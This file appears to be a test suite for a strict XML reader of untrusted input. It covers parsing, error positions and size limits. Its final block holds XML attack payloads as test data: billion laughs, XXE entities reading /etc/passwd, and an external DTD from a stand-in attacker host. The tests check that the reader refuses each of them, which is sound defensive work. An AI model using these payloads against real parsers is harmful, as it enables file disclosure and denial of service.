/** The strict XML reader for untrusted bodies (server/connector/events/xml-reader.ts). */
import { describe, expect, test } from "bun:test";
import { readXml, type XmlElement } from "../../../server/connector/events/xml-reader.ts";
import { xmlLimits } from "../../../server/constants.ts";

/** An expected element; attributes and children default to none, text to "". */
function el(name: string, options: { attributes?: Record<string, string>; children?: XmlElement[]; text?: string } = {}): XmlElement {
  return { name, attributes: options.attributes ?? {}, children: options.children ?? [], text: options.text ?? "" };
}

function root(text: string): XmlElement {
  const read = readXml(text);
  if (!read.ok) throw new Error(`expected a document, got: ${read.error}`);
  return read.root;
}

function refusal(text: string): string {
  const read = readXml(text);
  if (read.ok) throw new Error(`expected a refusal, got <${read.root.name}>`);
  return read.error;
}

const nested = (depth: number) => "<e>".repeat(depth) + "</e>".repeat(depth);

describe("readXml: well-formed documents", () => {
  const cases: Array<[string, string, XmlElement]> = [
    ["an empty element", "<a/>", el("a")],
    ["start and end tag, space before '>'", "<a ></a >", el("a")],
    [
      "declaration, byte order mark, comments and whitespace around the root",
      '\uFEFF<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!-- before -->\n<a/>\n<!-- after -->\n',
      el("a"),
    ],
    [
      "attributes in both quote styles, spaces around '='",
      `<a x="1"  y = 'two "2"' z="it's"/>`,
      el("a", { attributes: { x: "1", y: 'two "2"', z: "it's" } }),
    ],
    [
      "attribute values: references decoded, literal whitespace normalized, char refs kept",
      '<a v="&lt;&amp;&gt; 1\n2\t3\r\n4&#10;5&#9;6"/>',
      el("a", { attributes: { v: "<&> 1 2 3 4\n5\t6" } }),
    ],
    ["the five predefined entities", "<a>&lt;&gt;&amp;&quot;&apos;</a>", el("a", { text: `<>&"'` })],
    ["numeric references, decimal and hex, astral plane", "<a>&#65;&#x42;&#x6a;&#x1F600;&#128512;&#0000067;</a>", el("a", { text: "ABj😀😀C" })],
    ["CDATA keeps markup and references literally", "<a><![CDATA[<b>&amp; x]]]]><![CDATA[>]]></a>", el("a", { text: "<b>&amp; x]]>" })],
    ["comments inside content vanish; text around them joins", "<a>x<!-- <b> & -- -->y</a>", el("a", { text: "xy" })],
    [
      "mixed content: text is the element's own character data only",
      "<a>1<b>2</b>3<c/>4</a>",
      el("a", { text: "134", children: [el("b", { text: "2" }), el("c")] }),
    ],
    [
      "whitespace is kept exactly",
      "<a>\n  <b> x </b>\n</a>",
      el("a", { text: "\n  \n", children: [el("b", { text: " x " })] }),
    ],
    ["line ends normalized to LF, &#13; kept as CR", "<a>1\r\n2\r3&#13;4</a>", el("a", { text: "1\n2\n3\r4" })],
    ["'>' is fine in text", "<a>x > y</a>", el("a", { text: "x > y" })],
    [
      "unicode names, attributes and text",
      '<événement 名前="日本語">Grüße 😀 مرحبا</événement>',
      el("événement", { attributes: { 名前: "日本語" }, text: "Grüße 😀 مرحبا" }),
    ],
    [
      "namespace prefixes and declarations are kept as written",
      '<opr:event xmlns:opr="urn:x" xmlns="urn:y"><opr:title>t</opr:title></opr:event>',
      el("opr:event", { attributes: { "xmlns:opr": "urn:x", xmlns: "urn:y" }, children: [el("opr:title", { text: "t" })] }),
    ],
    ["names with digits, dots, dashes, underscores", "<_a.b-c1 d-2.x='v'/>", el("_a.b-c1", { attributes: { "d-2.x": "v" } })],
  ];
  for (const [name, input, expected] of cases) {
    test(name, () => expect(root(input)).toEqual(expected));
  }

  test("attribute names that are Object.prototype members are plain data", () => {
    const { attributes } = root('<a __proto__="p" constructor="c" toString="t"/>');
    expect(Object.keys(attributes)).toEqual(["__proto__", "constructor", "toString"]);
    expect(attributes["__proto__"]).toBe("p");
    expect(attributes["hasOwnProperty"]).toBeUndefined();
  });

  test(`exactly the limits are accepted: depth ${xmlLimits.depthMax}, ${xmlLimits.attributesPerElementMax} attributes, ${xmlLimits.nameCharsMax}-character names, ${xmlLimits.elementTextBytesMax} bytes of text`, () => {
    let deepest = root(nested(xmlLimits.depthMax));
    for (let depth = 1; depth < xmlLimits.depthMax; depth++) deepest = deepest.children[0]!;
    expect(deepest.children).toEqual([]);
    const attributes = Array.from({ length: xmlLimits.attributesPerElementMax }, (_, i) => ` a${i}="${i}"`).join("");
    expect(Object.keys(root(`<a${attributes}/>`).attributes).length).toBe(xmlLimits.attributesPerElementMax);
    const longName = "n".repeat(xmlLimits.nameCharsMax);
    expect(root(`<${longName}/>`).name).toBe(longName);
    // Two-byte characters: the limit counts UTF-8 bytes, not characters.
    const text = "é".repeat(xmlLimits.elementTextBytesMax / 2);
    expect(root(`<a>${text}</a>`).text.length).toBe(xmlLimits.elementTextBytesMax / 2);
  });

  test("a large document with many elements reads completely", () => {
    const items = Array.from({ length: 50_000 }, (_, i) => `<i n="${i}">v&amp;${i}</i>`).join("\n");
    const read = root(`<list>${items}</list>`);
    expect(read.children.length).toBe(50_000);
    expect(read.children[49_999]).toEqual(el("i", { attributes: { n: "49999" }, text: "v&49999" }));
  });
});

describe("readXml: refusals name the problem and its line:column", () => {
  const cases: Array<[string, string, string]> = [
    ["DOCTYPE", "<!DOCTYPE a><a/>", "DOCTYPE is not allowed (no DTDs, no entity declarations) (at 1:1)"],
    ["DOCTYPE after the declaration", '<?xml version="1.0"?>\n<!DOCTYPE a [\n]>\n<a/>', "DOCTYPE is not allowed (no DTDs, no entity declarations) (at 2:1)"],
    ["an ENTITY declaration before the root", '<!ENTITY x "y"><a/>', 'markup declaration "<!ENTITY x" is not allowed (at 1:1)'],
    ["an ELEMENT declaration inside content", "<a><!ELEMENT a ANY></a>", 'markup declaration "<!ELEMENT " is not allowed (at 1:4)'],
    ["a DOCTYPE inside content", "<a>\n  <!DOCTYPE a></a>", "DOCTYPE is not allowed (no DTDs, no entity declarations) (at 2:3)"],
    ["an undefined entity", "<a>x &nbsp; y</a>", "undefined entity &nbsp; (only the predefined entities and numeric references are decoded) (at 1:6)"],
    ["an undefined entity in an attribute", '<a x="&xxe;"/>', "undefined entity &xxe; (only the predefined entities and numeric references are decoded) (at 1:7)"],
    ["a bare ampersand", "<a>fish & chips</a>", "'&' must start a reference (write &amp;) (at 1:9)"],
    ["a reference without ';'", "<a>&amp x</a>", "reference &amp lacks ';' (at 1:4)"],
    ["a character reference to NUL", "<a>&#0;</a>", "character reference to U+0000, not an XML character (at 1:4)"],
    ["a character reference to a C0 control", "<a>&#x1b;</a>", "U+001B, not an XML character"],
    ["a character reference to a surrogate", "<a>&#xD800;</a>", "U+D800, not an XML character"],
    ["a character reference to U+FFFE", "<a>&#65534;</a>", "U+FFFE, not an XML character"],
    ["a character reference beyond Unicode", "<a>&#x110000;</a>", "U+110000, not an XML character"],
    ["a character reference without digits", "<a>&#x;</a>", "character reference without digits (at 1:4)"],
    ["a character reference with a stray letter", "<a>&#12a;</a>", "character reference lacks ';'"],
    ["a character reference with too many digits", "<a>&#00000000065;</a>", "character reference lacks ';' (or has too many digits)"],
    ["a processing instruction in content", "<a><?php echo 1; ?></a>", "processing instructions are not allowed (at 1:4)"],
    ["a processing instruction before the root", '<?xml-stylesheet href="x.xsl"?><a/>', "processing instructions are not allowed (at 1:1)"],
    ["a processing instruction after the root", "<a/><?pi?>", "processing instructions are not allowed (at 1:5)"],
    ["the declaration not first", ' <?xml version="1.0"?><a/>', "the XML declaration must come first (at 1:2)"],
    ["a declaration without a version", '<?xml encoding="UTF-8"?><a/>', "XML declaration without a version (at 1:1)"],
    ["an unclosed declaration", '<?xml version="1.0"<a/>', "unclosed XML declaration (at 1:1)"],
    ["a mismatched end tag", "<a><b></a>", "end tag </a> does not match <b> (at 1:7)"],
    ["a mismatched end tag on a later line", "<a>\n<b>\n</c></a>", "end tag </c> does not match <b> (at 3:1)"],
    ["an end tag that extends the open name", "<a><title>x</titles></a>", "end tag </titles> does not match <title> (at 1:12)"],
    ["an end tag that extends the open name with a prefix", "<a><title>x</title:x></a>", "end tag </title:x> does not match <title> (at 1:12)"],
    ["an end tag that extends the open name past ASCII", "<a><title>x</titleé></a>", "end tag </titleé> does not match <title> (at 1:12)"],
    ["an end tag shorter than the open name", "<a><title>x</titl></a>", "end tag </titl> does not match <title> (at 1:12)"],
    ["an unclosed element", "<a><b>text", "unclosed element <b> (at 1:4)"],
    ["an unclosed root", "<a>", "unclosed element <a> (at 1:1)"],
    ["an unclosed start tag", '<a x="1"', "unclosed start tag (at 1:9)"],
    ["an unclosed attribute value", '<a x="1/>', "unclosed value of attribute x (at 1:6)"],
    ["an unclosed comment", "<a><!-- x </a>", "unclosed comment (at 1:4)"],
    ["an unclosed CDATA section", "<a><![CDATA[ x </a>", "unclosed CDATA section (at 1:4)"],
    ["a duplicate attribute", `<a x="1" x='2'/>`, "duplicate attribute x (at 1:10)"],
    ["an unquoted attribute value", "<a x=1/>", "expected a quoted value for attribute x (at 1:6)"],
    ["attributes without whitespace between them", '<a x="1"y="2"/>', "expected an attribute name, '>' or '/>' (at 1:9)"],
    ["an attribute without a value", "<a x/>", "expected '=' after attribute x (at 1:5)"],
    ["'<' in an attribute value", '<a x="a<b"/>', "'<' in the value of attribute x (at 1:8)"],
    ["text before the root", "hello<a/>", "text outside the root element (at 1:1)"],
    ["text after the root", "<a/>\n  trailing", "text outside the root element (at 2:3)"],
    ["a second root", "<a/><b/>", "a second root element (at 1:5)"],
    ["an end tag after the root", "<a></a></a>", "end tag after the root element closed (at 1:8)"],
    ["CDATA outside the root", "<a/><![CDATA[x]]>", "CDATA outside the root element (at 1:5)"],
    ["an empty document", "", "no root element (at 1:1)"],
    ["only a comment", "<!-- nothing -->\n", "no root element (at 2:1)"],
    ["']]>' in text", "<a>x]]>y</a>", "']]>' is not allowed in text (at 1:5)"],
    ["a literal C0 control character", "<a>x\u0001</a>", "character U+0001 is not allowed in XML (at 1:5)"],
    ["a literal U+FFFF", "<a>\uFFFF</a>", "character U+FFFF is not allowed in XML (at 1:4)"],
    ["a lone surrogate", "<a>x\uD800y</a>", "unpaired surrogate in text (at 1:5)"],
    ["a control character in an attribute", '<a x="\u0002"/>', "character U+0002 is not allowed in XML (at 1:7)"],
    ["a control character in CDATA", "<a><![CDATA[\u0000]]></a>", "character U+0000 is not allowed in XML (at 1:13)"],
    ["a name starting with a digit", "<1a/>", "expected an element name (at 1:2)"],
    ["a space after '<'", "< a/>", "expected an element name (at 1:2)"],
    ["columns count code points, not UTF-16 units", "<a>😀😀&bad;</a>", "undefined entity &bad; (only the predefined entities and numeric references are decoded) (at 1:6)"],
    ["CR LF counts as one line end", "<a>\r\n\r\n&bad;</a>", "(at 3:1)"],
  ];
  for (const [name, input, fragment] of cases) {
    test(name, () => expect(refusal(input)).toContain(fragment));
  }
});

describe("readXml: limits", () => {
  const cases: Array<[string, () => string, string]> = [
    [`nesting ${xmlLimits.depthMax + 1} deep`, () => nested(xmlLimits.depthMax + 1), `elements nested deeper than ${xmlLimits.depthMax} (at 1:${3 * xmlLimits.depthMax + 1})`],
    ["nesting 100 deep", () => nested(100), `elements nested deeper than ${xmlLimits.depthMax}`],
    [`${xmlLimits.elementsMax + 1} elements`, () => `<a>${"<b/>".repeat(xmlLimits.elementsMax)}</a>`, `more than ${xmlLimits.elementsMax} elements`],
    [
      `${xmlLimits.attributesPerElementMax + 1} attributes`,
      () => `<a${Array.from({ length: xmlLimits.attributesPerElementMax + 1 }, (_, i) => ` a${i}="${i}"`).join("")}/>`,
      `more than ${xmlLimits.attributesPerElementMax} attributes`,
    ],
    [`an element name of ${xmlLimits.nameCharsMax + 1} characters`, () => `<${"n".repeat(xmlLimits.nameCharsMax + 1)}/>`, `name longer than ${xmlLimits.nameCharsMax} characters (at 1:2)`],
    [`an attribute name of ${xmlLimits.nameCharsMax + 1} characters`, () => `<a ${"n".repeat(xmlLimits.nameCharsMax + 1)}="1"/>`, `name longer than ${xmlLimits.nameCharsMax} characters (at 1:4)`],
    [`an entity name of ${xmlLimits.nameCharsMax + 1} characters`, () => `<a>&${"n".repeat(xmlLimits.nameCharsMax + 1)};</a>`, `name longer than ${xmlLimits.nameCharsMax} characters`],
    [`text of ${xmlLimits.elementTextBytesMax} bytes + 1`, () => `<a>${"é".repeat(xmlLimits.elementTextBytesMax / 2)}x</a>`, `text inside <a> exceeds ${xmlLimits.elementTextBytesMax} bytes`],
    [
      "text over the limit in pieces (references, CDATA, runs)",
      () => `<a>${"x".repeat(xmlLimits.elementTextBytesMax - 2)}&amp;<![CDATA[yz]]></a>`,
      `text inside <a> exceeds ${xmlLimits.elementTextBytesMax} bytes`,
    ],
    [`an attribute value over ${xmlLimits.elementTextBytesMax} bytes`, () => `<a v="${"x".repeat(xmlLimits.elementTextBytesMax + 1)}"/>`, `value of attribute v exceeds ${xmlLimits.elementTextBytesMax} bytes`],
    [`a document over ${xmlLimits.inputBytesMax} bytes`, () => `<a>${"x".repeat(xmlLimits.inputBytesMax)}</a>`, `document exceeds ${xmlLimits.inputBytesMax} bytes`],
    [
      `a document of fewer characters but more UTF-8 bytes than ${xmlLimits.inputBytesMax}`,
      () => `<a>${"€".repeat(xmlLimits.inputBytesMax / 3 + 1)}</a>`,
      `document exceeds ${xmlLimits.inputBytesMax} bytes`,
    ],
  ];
  for (const [name, make, fragment] of cases) {
    test(name, () => expect(refusal(make())).toContain(fragment));
  }
});

describe("readXml: entity attacks are refused at the DTD, before anything is expanded", () => {
  const billionLaughs = [
    '<?xml version="1.0"?>',
    "<!DOCTYPE lolz [",
    ' <!ENTITY lol "lol">',
    ...Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i === 0 ? "" : i};`.repeat(10)}">`),
    "]>",
    "<lolz>&lol9;</lolz>",
  ].join("\n");
  const cases: Array<[string, string, string]> = [
    ["billion laughs", billionLaughs, "DOCTYPE is not allowed (no DTDs, no entity declarations) (at 2:1)"],
    ["external entity", '<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<foo>&xxe;</foo>', "DOCTYPE is not allowed (no DTDs, no entity declarations) (at 2:1)"],
    ["external DTD", '<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd"><foo/>', "DOCTYPE is not allowed"],
    ["parameter entities", '<!DOCTYPE foo [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]><foo/>', "DOCTYPE is not allowed"],
    ["the entity used without its DTD", "<foo>&xxe;</foo>", "undefined entity &xxe;"],
  ];
  for (const [name, input, fragment] of cases) {
    // The position proves the refusal came at the DTD's first byte, not after reading or expanding it.
    test(name, () => expect(refusal(input)).toContain(fragment));
  }
});
